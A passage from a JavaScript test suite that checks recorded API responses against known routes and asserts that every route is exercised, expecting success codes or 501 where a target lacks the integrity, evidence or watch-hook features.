            ({ route, pattern }) => route.method === answer.method && pattern.test(path),
          );
          // A route that does not exist, a wrong method: the common 404 and 405 answers.
          if (!match) continue;
          const { resource } = match.route;
          checked.add(`${answer.method} ${resource} ${answer.status}`);
          expect(
            answerProblems(answer.method, resource, answer.status, answer.contentType, answer.body),
            `${answer.method} ${answer.path} ${answer.status}`,
          ).toEqual([]);
        }
        // The suite reaches every route, and the main outcomes of each (501 where the target has none).
        for (const route of API_ROUTES) {
          const unavailable =
            (!target.integrity && INTEGRITY_ROUTES.includes(route.name)) ||
            (!target.evidence && EVIDENCE_ROUTES.includes(route.name)) ||
            (!target.watchHook && WATCH_ROUTES.includes(route.name));
          const outcome = unavailable ? '501' : '[23]\\d\\d';
          expect(
            [...checked].some((c) => new RegExp(`^${route.method} ${route.resource} ${outcome}$`).test(c)),
            route.name,
          ).toBe(true);
        }
        expect(checked.size).toBeGreaterThan(15);
      });
    });
  });
};
